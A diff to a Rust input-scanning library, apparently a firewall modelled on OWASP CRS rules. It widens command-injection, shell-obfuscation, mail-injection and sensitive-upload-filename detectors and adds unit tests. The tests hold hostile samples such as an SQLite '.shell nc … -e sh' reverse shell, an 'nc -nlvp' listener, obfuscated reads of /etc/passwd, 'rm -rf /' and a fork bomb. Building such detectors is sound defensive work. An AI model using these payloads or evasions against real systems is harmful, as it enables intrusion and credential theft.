@@ -236,17 +236,19 @@ const VALUE_RULES: &[Rule] = &[
         class: Class::Rce,
         // A command word after a shell separator, followed by what a shell reads next (a space,
         // the end, another separator): `&id=123` in a URL is a parameter, `; id` a command.
-        pattern: r"(?:[;|&`\n]|\$\(|\|\||&&)\s*['\x22]?(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|csh|python[0-9.]*|perl|ruby|php|ping|nslookup|dig|echo|chmod|chown|rm|touch|nmap|telnet|ifconfig|ipconfig|powershell|cmd|sleep|kill|ps|env|printenv|head|tail|find|xargs|awk|sed|base64|tftp|ftp|ssh|scp|sudo|su|useradd|crontab|systeminfo|tasklist|certutil|bitsadmin|mshta|rundll32|wmic|cscript|wscript|column|base32|flock|cpulimit)(?:\s|$|[;|&<>`'\x22)])",
+        pattern: r"(?:[;|&`\n]|\$\(|\|\||&&)\s*(?:\.\s+)?['\x22]?(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|csh|python[0-9.]*|perl|ruby|php|ping|nslookup|dig|echo|chmod|chown|rm|touch|nmap|telnet|ifconfig|ipconfig|powershell|cmd|sleep|kill|ps|env|printenv|head|tail|find|xargs|awk|sed|base64|tftp|ftp|ssh|scp|sudo|su|useradd|crontab|systeminfo|tasklist|certutil|bitsadmin|mshta|rundll32|wmic|cscript|wscript|column|base32|flock|cpulimit)(?:\s|$|[;|&<>`'\x22)])",
     },
     Rule {
         id: "rce-110",
         class: Class::Rce,
-        pattern: r"\$\{ifs\}|\$ifs\b|`[^`]{2,}`|\$\([a-z/][^)]*\)",
+        pattern: r"\$\{ifs\}|\$ifs\b|`[^`]{2,}`|\$\([a-z/][^)]*\)|\$(?:shell|bash)\s+-c\b",
     },
     Rule {
+        // `/bin/sh`, `cmd /c`, `powershell -…`, fork bombs (`:(){ :|:& };:`, `f(){ f|f& };f`),
+        // and vim/ex's shell escapes (`+silent\ \!whoami`, `-c:!pwd`).
         id: "rce-120",
         class: Class::Rce,
-        pattern: r"/bin/(?:ba|z|k|c|da)?sh\b|\bcmd(?:\.exe)?\s*/c\b|\bpowershell(?:\.exe)?\s+-|\(\s*\)\s*\{[^}]*;\s*\}|:\s*\(\s*\)\s*\{",
+        pattern: r"/bin/(?:ba|z|k|c|da)?sh\b|\bsilent[/\s]*![a-z]|\s-c\s*:\s*/?!|\bcmd(?:\.exe)?\s*/c\b|\bpowershell(?:\.exe)?\s+-|\(\s*\)\s*\{[^}]*;\s*\}|\(\s*\)\s*\{[^}]*\|[^}]*&\s*\}|:\s*\(\s*\)\s*\{",
     },
     Rule {
         id: "rce-140",
@@ -259,7 +261,7 @@ const VALUE_RULES: &[Rule] = &[
         class: Class::Rce,
         // cmd.exe's conditional, at the start of a value or after `&`: `IF EXIST f CMD`,
         // `if /i a==b`, `IF %ERRORLEVEL% EQU 2 goto x`, `if "%1"==""`.
-        pattern: r"(?:^|&)\s*if(?:\s+|/)(?:/i\s+)?(?:not\s+)?(?:exist\s|errorlevel\s|defined\s|cmdextversion\s|%|\[|\(|\{|\x22|[^\s=]+\s*={2,3}|\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s)",
+        pattern: r"(?:^|&)\s*if(?:\s+/i\s+|/i\s+|\s+)(?:not\s+)?(?:exist\s|errorlevel\s|defined\s|cmdextversion\s|%|\[|\(|\{|\x22|[^\s=]+\s*={2,3}|\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s)",
     },
     Rule {
         id: "rce-105",
@@ -267,14 +269,14 @@ const VALUE_RULES: &[Rule] = &[
         // Programs whose names are no word of English or Japanese romaji (debuggers, package
         // managers, tracing and network tools, configuration tools), at the start of a value
         // or after a shell separator, followed by what a shell reads next.
-        pattern: r"(?:^|[;|&`\n]|\$\(|\|\||&&)\s*(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:ansible(?:-[a-z]+)?|chef-[a-z]+|strace|ltrace|gdb|lldb|htop|tcpdump|tshark|socat|openssl|busybox|toybox|nohup|setsid|mkfifo|mknod|xxd|hexdump|sqlite3|mysql|psql|mongosh|redis-cli|kubectl|crictl|systemctl|journalctl|chattr|lsattr|setfacl|getfacl|iptables|ip6tables|netstat|lsof|pkill|killall|pgrep|visudo|chpasswd|rsync|lftp|aria2c|lwp-download|lwp-request|uconv|lastlogin|lastlog|readelf|objdump|ldd|tmux|byobu|uuencode|uudecode|zcat|zgrep|bzcat|xzcat|gunzip|bunzip2|unxz|unrar|insmod|rmmod|modprobe|sysctl|dmesg|chroot|unshare|nsenter|capsh|runuser|sudoedit|pkexec|sendmail|mailx|crontab|pip[0-9.]*|pipx|npx|pnpm|apt-get|aptitude|dpkg|yum|dnf|zypper|pacman|flatpak|podman|c89|c99|gcc|g\+\+|clang|tclsh|luajit|jjs|jrunscript|irb|nodejs|composer|cpan|7za?|bcdboot|bcdedit|bootcfg|diskpart|regsvr32|schtasks|netsh|vssadmin|wevtutil|takeown|icacls|cacls|forfiles|wbadmin)(?:\s|$|[;|&<>`'\x22)])",
+        pattern: r"(?:^|[;|&`\n]|\$\(|\|\||&&)\s*['\x22]?(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:ansible(?:-[a-z]+)?|chef-[a-z]+|cscli|aa-[a-z]+|bsdtar|ifconfig|whoami|python[0-9][0-9.]*|strace|ltrace|gdb|lldb|htop|tcpdump|tshark|socat|openssl|busybox|toybox|nohup|setsid|mkfifo|mknod|xxd|hexdump|sqlite3|mysql|psql|mongosh|redis-cli|kubectl|crictl|systemctl|journalctl|chattr|lsattr|setfacl|getfacl|iptables|ip6tables|netstat|lsof|pkill|killall|pgrep|visudo|chpasswd|rsync|lftp|aria2c|lwp-download|lwp-request|uconv|lastlogin|lastlog|readelf|objdump|ldd|tmux|byobu|uuencode|uudecode|zcat|zgrep|bzcat|xzcat|gunzip|bunzip2|unxz|unrar|insmod|rmmod|modprobe|sysctl|dmesg|chroot|unshare|nsenter|capsh|runuser|sudoedit|pkexec|sendmail|mailx|crontab|pip[0-9.]*|pipx|npx|pnpm|apt-get|aptitude|dpkg|yum|dnf|zypper|pacman|flatpak|podman|c89|c99|gcc[0-9.]*|g\+\+|clang|tclsh|luajit|jjs|jrunscript|irb|nodejs|composer|cpan|7za?|bcdboot|bcdedit|bootcfg|diskpart|regsvr32|schtasks|netsh|vssadmin|wevtutil|takeown|icacls|cacls|forfiles|wbadmin)(?:\s|$|[;|&<>`'\x22)])",
     },
     Rule {
         id: "rce-106",
         class: Class::Rce,
         // Programs with shell escapes or short names that are also words, only after a shell
         // separator.
-        pattern: r"(?:[;|&`\n]|\$\(|\|\||&&)\s*(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:vim?|nvim|nano|emacs|perf|rmt(?:-[a-z]+)?|docker|lua|deno|npm|mutt)(?:\s|$|[;|&<>`'\x22)])",
+        pattern: r"(?:[;|&`\n]|\$\(|\|\||&&)\s*(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:vim?|nvim|nano|emacs|perf|rmt(?:-[a-z]+)?|docker|lua|deno|npm|mutt|regedit)(?:\s|$|[;|&<>`'\x22)])",
     },
     Rule {
         id: "rce-190",
@@ -285,13 +287,14 @@ const VALUE_RULES: &[Rule] = &[
         // English (`time`, `head`, `more`, `find`) are held by what follows: prose puts no
         // `-x` option or `/path` after them, nor `curl`. A `+x` option (`alias +m`) and a
         // `user@host` (`ssh-copy-id user@server`) count as options.
-        pattern: r"(?:^|[;|&\n]|\$\(|&&|\|\|)\s*['\x22]?(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:cat|tac|nl|head|tail|less|more|ls|dir|bash|sh|zsh|dash|ksh|csh|tcsh|curl|wget|nc|ncat|netcat|socat|env|time|timeout|nice|nohup|flock|cpulimit|python[0-9.]*|perl|ruby|php|node|lua|awk|gawk|sed|grep|egrep|find|xargs|chmod|chown|rm|cp|mv|touch|mkdir|tar|unzip|gzip|id|whoami|uname|ping|ssh|scp|ftp|tftp|telnet|echo|printf|base32|base64|xxd|od|dd|sleep|kill|ps|crontab|sudo|su|mount|umount|systemctl|service|column|fold|bridge|cd|strings|stat|wc|rev|which|whereis|locate|git|gcc|ifconfig|dig|nslookup|whois|openssl|rmt|perf|bsdtar|alias|date|ssh-copy-id)['\x22]?\s+(?:-{1,2}[a-z]|\+[a-z]|[a-z0-9._-]+@[a-z0-9]|/[a-z0-9.~_-]|~/|\.\.?/|\$[a-z({]|(?:bash|sh|zsh|nc|ncat|curl|wget|python[0-9.]*|perl|ruby|php|whoami|uname|ifconfig|cscli)(?:\s|$))",
+        pattern: r"(?:^|[;|&\n]|\$\(|&&|\|\|)\s*['\x22]?(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:cat|tac|nl|head|tail|less|more|ls|dir|bash|sh|zsh|dash|ksh|csh|tcsh|curl|wget|nc|ncat|netcat|socat|env|time|timeout|nice|nohup|flock|cpulimit|python[0-9.]*|perl|ruby|php|node|lua|awk|gawk|sed|grep|egrep|find|xargs|chmod|chown|rm|cp|mv|touch|mkdir|tar|unzip|gzip|id|whoami|uname|ping|ssh|scp|ftp|tftp|telnet|echo|printf|base32|base64|xxd|od|dd|sleep|kill|ps|crontab|sudo|su|mount|umount|systemctl|service|column|fold|bridge|cd|strings|stat|wc|rev|which|whereis|locate|git|gcc|ifconfig|dig|nslookup|whois|openssl|rmt|perf|bsdtar|alias|date|ssh-copy-id|ll|set|ex|rc)['\x22]?\s+(?:-{1,2}[a-z]|\+[a-z]|[a-z0-9._-]+@[a-z0-9]|/(?:[a-z0-9.~_\[*?-]|[;|&]|$)|~/|\.\.?/|\$[a-z({]|[a-z0-9_-]+\.(?:sh|bash|py|pl|rb|php)(?:\s|$)|(?:bash|sh|zsh|nc|ncat|curl|wget|python[0-9.]*|perl|ruby|php|whoami|who|uname|ifconfig|cscli|bsdtar)(?:\s|$))",
     },
     Rule {
         id: "rce-200",
         class: Class::Rce,
-        // A value that is a shell's directory-stack expansion (`~+`, `~-1`).
-        pattern: r"^~[+-]\d*$",
+        // A value that is a shell's directory-stack expansion (`~+`, `~-1`, `~0`; `~5` is
+        // "about five").
+        pattern: r"^~(?:[+-]\d*|0)$",
     },
     Rule {
         id: "rce-150",
@@ -393,10 +396,11 @@ const VALUE_RULES: &[Rule] = &[
     },
     Rule {
         // An SQLite shell dot-command after a statement (CRS 932210): `;.shell nc …`,
-        // `;⏎.databases`.
+        // `;⏎.databases`, and `;\n.shell` with the line break escaped as a shell's `$'…'`
+        // reads it (the backslash folds to a slash).
         id: "rce-231",
         class: Class::Rce,
-        pattern: r#"[;\n]\s*\.[/"']*(?:shell|system|sh|databases|tables|schema|dump|import|output|once|load|open|read|dbinfo)\b"#,
+        pattern: r#"[;\n]\s*(?:/[nr]\s*)*\.\s*[/"']*(?:shell|system|sh|databases|tables|schema|dump|import|output|once|load|open|read|dbinfo)\b"#,
     },
     Rule {
         // A path segment that is a shell glob of a name (`cat /et*/*wd`, `/bin/ca?/`, CRS
@@ -411,6 +415,45 @@ const VALUE_RULES: &[Rule] = &[
         id: "rce-234",
         class: Class::Rce,
         pattern: r"\$\[\s*(?:[a-z0-9_]+\s*[-+*/%]\s*[a-z0-9_]+\s*)?\]",
+    },
+    Rule {
+        // A value that is only history expansions (`!!`, `!1`, `!-1!-2`, CRS 932330,
+        // 932331): an interactive shell runs an earlier command again.
+        id: "rce-235",
+        class: Class::Rce,
+        pattern: r"^(?:!(?:!|-?\d+))+$",
+    },
+    Rule {
+        // A value that is a program's path (`/bin/ab`, `bin/cscli`, CRS 932160): a parameter
+        // a backend runs.
+        id: "rce-236",
+        class: Class::Rce,
+        pattern: r"^/?(?:usr/)?(?:local/)?s?bin/[a-z][a-z0-9_.+-]*$",
+    },
+    Rule {
+        // A separator glued to a command (`;set`, `;who`, `;trap '…'`, `&&$a -nlvp`, `|$u
+        // wget`): prose puts a space after `;`, and never a variable after `|`. The English
+        // words among these programs are commands only so written.
+        id: "rce-237",
+        class: Class::Rce,
+        pattern: r"[;|&](?:who|top|set|trap|time|more|find|cut|wall|mount|shutdown|reboot|export|unset|source|exec|eval|alias)(?:\s|$|[;|&])|[;|&]\$[a-z_][a-z0-9_]*\s+[-a-z]",
+    },
+    Rule {
+        // Ruby's process calls (CRS 934150): `Process.spawn("id")`, `Kernel.system`,
+        // `IO.popen`, `Open3.capture2`.
+        id: "rce-239",
+        class: Class::Rce,
+        pattern: r"\b(?:process\.spawn|kernel\.(?:exec|system|spawn|open|fork)|io\.popen|open3\.(?:popen[23e]?|capture[23e]?|pipeline))\s*\(",
+    },
+    Rule {
+        // A mail command after CRLF (SMTP, POP3, IMAP; CRS 932300 … 932321): a backend that
+        // writes the value into its mail session runs it. A command alone on its line, or
+        // with its arguments; the value starts with the line break (the previous command
+        // ended) unless the command is `MAIL FROM:` or `RCPT TO:`. IMAP commands carry a tag
+        // of letters then digits (`a001`).
+        id: "rce-240",
+        class: Class::Rce,
+        pattern: r"\r\n(?:mail\s+from|rcpt\s+to)\s*:|^\r\n(?:(?:ehlo|helo)\s+\S+|(?:data|quit|rset|noop|starttls|help(?:\s+\S+)?)|(?:retr|dele|list|top)\s+\d+(?:\s+\d+)?|apop\s+\S+\s+[0-9a-f]{32}|auth\s+\S+(?:\s+\S+)?)\s*(?:\r?\n|$)|^\r\n(?:[a-z]+\d+\s+(?:examine|select|login|authenticate|status|append|store|uid|copy|list|lsub|search|fetch|expunge|logout|capability|create|delete|rename|subscribe|quit)\b|[a-z0-9]+\s+store\s+\d+(?::\d+)?\s+[+-]?flags\b)",
     },
     Rule {
         id: "lfi-120",
@@ -510,8 +553,10 @@ const BRACE_RULES: &[Rule] = &[Rule {
     id: "rce-210",
     class: Class::Rce,
     // Words a shell expands from a list in braces, no space inside (`{l,-lh}s` is `ls -lh`,
-    // `c{a,oun}t`, `{,ifconfig}`, `{id,}`); `{1,2}` holds no word.
-    pattern: r"\{(?:,[a-z][a-z0-9-]*|[a-z][a-z0-9-]*,)[a-z0-9,-]*\}",
+    // `c{a,oun}t`, `{,ifconfig}`, `{id,}`); `{1,2}` holds no word. A list that starts with
+    // an empty word and holds two more (`{,echo,#test}`, `{,$'whoami',}`), or a glob that
+    // ends with one (`{/?s?/?i?/c?t,}`), is a command line spelled without spaces.
+    pattern: r"\{(?:,[a-z][a-z0-9-]*|[a-z][a-z0-9-]*,)[a-z0-9,-]*\}|\{,[^{}\s,]+,[^{}\s]*\}|\{[^{}\s,]*[/?*][^{}\s,]*,\}",
 }];
 
 /// Rules that only a value with `(` can fire: function calls by name. Apart from
@@ -1061,12 +1106,16 @@ pub fn other_origin(folded: &str, host: Option<&str>) -> Option<Hit> {
     })
 }
 
-/// A word a shell joins back from pieces (`rce-220`, CRS 932200, 932240, 932290): letters on
-/// both sides of a special parameter that expands to nothing in a one-off command (`c$@at`,
-/// `una$$me`, `/et$?c`), of an empty command substitution (`pi$()ng`, or two back-quotes), or of
-/// `${}`; or a value (or a command after `;`, `|`, `&`) that starts with a quoted piece of its
-/// first word (`'i'fconfig`, `"w"get`). Text writes none of these; `$everything`, `O'Brien`,
-/// `"O"s` pass. Code, not a pattern: it looks only where a `$`, a back-quote or a quote is.
+/// A word a shell joins back from pieces (`rce-220`, CRS 932200, 932230, 932240, 932290):
+/// letters on both sides of a special parameter that expands to nothing in a one-off command
+/// (`c$@at`, `una$$me`, `/et$?c`), of an empty command substitution (`pi$()ng`, or two
+/// back-quotes; or before the space that ends the word, `ping$() 127.0.0.1`), of `${}`, or of an
+/// empty quoted string (`ti''me`); a short unset variable between a word and what a shell reads
+/// next (`uname$u -a`, `cat$u+/etc$u/passwd`, `cu$v\r\l`); variables joined into a word
+/// (`$c1$c2$c3`, `$c $a$b`); or a value (or a command after `;`, `|`, `&`) that starts with a
+/// quoted piece of its first word (`'i'fconfig`, `"w"get`). Text writes none of these;
+/// `$everything`, `O'Brien`, `"O"s`, `US$ 5` pass. Code, not a pattern: it looks only where a
+/// `$`, a back-quote or a quote is.
 fn split_word(folded: &str) -> Option<Hit> {
     const HIT: Hit = Hit {
         rule: "rce-220",
@@ -1077,17 +1126,34 @@ fn split_word(folded: &str) -> Option<Hit> {
         at.and_then(|i| text.get(i))
             .is_some_and(u8::is_ascii_lowercase)
     };
+    let word_end = |at: usize| matches!(text.get(at), Some(b' ' | b'+' | b'/' | b'\\'));
     let split = memchr::memchr2_iter(b'$', b'`', text).any(|at| {
-        let filler = match (text[at], text.get(at + 1)) {
-            (b'$', Some(b'@' | b'!' | b'*' | b'?' | b'-' | b'_' | b'$' | b'#')) => 2,
-            (b'$', Some(b'(')) if text.get(at + 2) == Some(&b')') => 3,
-            (b'$', Some(b'{')) if text.get(at + 2) == Some(&b'}') => 3,
-            (b'`', Some(b'`')) => 2,
+        let before = letter(at.checked_sub(1));
+        let (filler, ends_word) = match (text[at], text.get(at + 1)) {
+            (b'$', Some(b'@' | b'!' | b'*' | b'?' | b'-' | b'_' | b'$' | b'#')) => (2, false),
+            (b'$', Some(b'(')) if text.get(at + 2) == Some(&b')') => (3, true),
+            (b'$', Some(b'{')) if text.get(at + 2) == Some(&b'}') => (3, true),
+            (b'`', Some(b'`')) => (2, true),
+            (b'$', Some(b'a'..=b'z')) => {
+                let name = text[at + 1..]
+                    .iter()
+                    .take_while(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || **b == b'_')
+                    .count();
+                let next = at + 1 + name;
+                let joined = text.get(next) == Some(&b'$')
+                    && text
+                        .get(next + 1)
+                        .is_some_and(|b| b.is_ascii_lowercase() || matches!(b, b'_' | b'{'));
+                return joined || (before && name <= 4 && word_end(next));
+            }
             _ => return false,
         };
-        letter(at.checked_sub(1)) && letter(Some(at + filler))
+        before && (letter(Some(at + filler)) || (ends_word && text.get(at + filler) == Some(&b' ')))
     });
-    if split {
+    let empty_quotes = memchr::memchr2_iter(b'\'', b'"', text).any(|at| {
+        text.get(at + 1) == Some(&text[at]) && letter(at.checked_sub(1)) && letter(Some(at + 2))
+    });
+    if split || empty_quotes {
         return Some(HIT);
     }
     // A quoted first piece: at the start, or after a separator and spaces.
@@ -1504,6 +1570,14 @@ const FILE_NAME_RULES: &[Rule] = &[
         class: Class::Php,
         // A PHP session file (`sess_` and its id), uploaded to be included as a session.
         pattern: r"(?:^|[/\\])sess_[a-z0-9,-]{20,}$",
+    },
+    Rule {
+        id: "rce-250",
+        class: Class::Rce,
+        // A file a server reads its own configuration or credentials from (CRS 932180's
+        // restricted uploads): `.htaccess` makes a directory run scripts, `wp-config.php`
+        // holds the database password. Trailing spaces and dots are forgiven as servers do.
+        pattern: r"(?:^|[/\\])(?:\.htaccess|\.htdigest|\.htpasswd|web\.config|\.user\.ini|php\.ini|\.env|\.boto|\.netrc|\.npmrc|\.pypirc|\.git(?:config|-credentials)|\.bash(?:rc|_profile|_history)|\.profile|authorized_keys|wp-config[a-z0-9._-]*|(?:config|config_[a-z]+|parameters|routing|security|services)\.ya?ml|(?:default\.)?settings(?:\.local)?\.php|local\.xml|mtrr|acpi)[\s.]*$",
     },
 ];
 
@@ -2079,6 +2153,70 @@ mod tests {
     const ATTACKS: &[(&str, &str)] = &[
         ("1' OR '1'='1", "sqli"),
         ("() { :; }; echo vulnerable", "rce"),
+        // rce-240: mail commands after CRLF (SMTP, POP3, IMAP).
+        ("\r\nMAIL FROM:<a@b.com>", "rce"),
+        ("subject\r\nRCPT TO:<postmaster>", "rce"),
+        ("\r\nEHLO test.com", "rce"),
+        ("\r\nDATA", "rce"),
+        ("\r\nQUIT\r\n", "rce"),
+        ("\r\nHELP Postmaster", "rce"),
+        ("\r\nRETR 123", "rce"),
+        ("\r\nTOP 1 2", "rce"),
+        (
+            "\r\nAPOP corerulest 7d0a3bd8e5b2abcfb3e256633c23b891",
+            "rce",
+        ),
+        ("\r\nAUTH corerulest dGhpc2lzIWF0ZXN0cGFzc3dvcmQ=", "rce"),
+        ("\r\na001 EXAMINE INBOX", "rce"),
+        ("\r\nA1 QUIT", "rce"),
+        ("\r\nd store 2 +FLAGS (\\Deleted)", "rce"),
+        // rce-235 … rce-239.
+        ("!!", "rce"),
+        ("!-1!-2", "rce"),
+        ("/bin/ab", "rce"),
+        ("bin/cscli", "rce"),
+        (";set", "rce"),
+        ("After ;top something", "rce"),
+        (";trap 'rm -rf file.txt' SIGEXIT", "rce"),
+        ("a=nc&&$a -nlvp 555", "rce"),
+        ("|$u wget test", "rce"),
+        (";$a cat test.txt", "rce"),
+        ("x=Process.spawn(\"id\")", "rce"),
+        ("Open3.capture2(\"id\")", "rce"),
+        // rce-220's new splices.
+        ("uname$u -a", "rce"),
+        ("cat$u+/etc$u/passwd", "rce"),
+        ("cu$v\\r\\l google.com", "rce"),
+        ("ti''me sh -c whoami", "rce"),
+        ("ping`` 127.0.0.1", "rce"),
+        ("ping$() 127.0.0.1", "rce"),
+        ("c1=c;c2=a;c3=t;$c1$c2$c3 x", "rce"),
+        // rce-100, -105, -106, -110, -120, -141, -190, -200, -210 as widened.
+        ("ifconfig;. rm -rf /", "rce"),
+        ("cscli alerts list", "rce"),
+        ("'cscli' alerts list", "rce"),
+        ("aa-disable php-fpm", "rce"),
+        ("python3.10 cmd", "rce"),
+        (";gcc10.1<<<void main(){}", "rce"),
+        ("visudo", "rce"),
+        ("; regedit /E c:\\ads\\file.txt", "rce"),
+        ("$SHELL -c \"echo hi\"", "rce"),
+        (";ex dddd +silent\\ \\!whoami +wq", "rce"),
+        (";ex -c:\\!pwd", "rce"),
+        ("f(){ f|f& };f", "rce"),
+        ("if/i a==b foo", "rce"),
+        ("set -o history", "rce"),
+        ("time who", "rce"),
+        ("\"time\" who", "rce"),
+        ("ll /var/www/", "rce"),
+        ("rc script.sh", "rce"),
+        ("cd /;cd etc;fold passwd", "rce"),
+        ("cat /[e////]tc/[p//]asswd", "rce"),
+        ("~0", "rce"),
+        ("{,echo,#test}", "rce"),
+        ("{,$'whoami',}", "rce"),
+        ("{/?s?/?i?/c?t,}", "rce"),
+        ("foo=\";\\n.shell nc 10.10.10.1 6666 -e sh", "rce"),
         ("() {", "rce"),
         ("1;.sh whoami", "rce"),
         ("x;\n.databases", "rce"),
@@ -2595,6 +2733,12 @@ mod tests {
             ("foo.jspx...", "java-140"),
             ("sess_12345678901234567890", "php-160"),
             ("C:\\temp\\sess_malicious12345678901", "php-160"),
+            // rce-250: a server's own configuration or credentials.
+            (".htaccess", "rce-250"),
+            ("wp-config-php.bak", "rce-250"),
+            ("config.yml ", "rce-250"),
+            (".boto", "rce-250"),
+            ("uploads/.user.ini", "rce-250"),
         ] {
             assert_eq!(name_hit(attack), Some(rule), "{attack}");
         }
@@ -2606,6 +2750,9 @@ mod tests {
             "session.txt",
             "sess_1",
             "jsp-manual.pdf",
+            "config-report.pdf",
+            "my.htaccess.txt",
+            "settings.png",
         ] {
             assert_eq!(name_hit(fine), None, "{fine}");
         }
@@ -2614,6 +2761,30 @@ mod tests {
     #[test]
     fn ordinary_values_pass() {
         for raw in [
+            // Near the shapes of rce-235 … rce-240 and the widened command rules: prose
+            // puts a space after `;`, mail words in text are not alone on the value's
+            // first line, and a variable in text is a price or a template.
+            "Data\r\nThe readings of the week",
+            "notes:\r\nHELP desk called twice today",
+            "\nDATA",
+            "list 3 items\r\nTOP 1 2",
+            "mail from the clinic: see attached",
+            "the patient; who was seen; set of results; top priority",
+            "R&D; Q&A; AT&T; B&W",
+            "Wow!! 1 tablet!",
+            "!important",
+            "US$ 5 / day; costs $AUD (approx)",
+            "it's the patient's",
+            "\"\" empty",
+            "set of 3",
+            "time to eat",
+            "cd-rom",
+            "rc car",
+            "ex-smoker, quit 2019",
+            "bin/ folder is empty",
+            "{,}",
+            "Process spawned in the lab",
+            "~5",
             // Near the shapes of rce-190's new words and rce-230 … rce-234.
             "date - end date",
             "Alias: Taro",
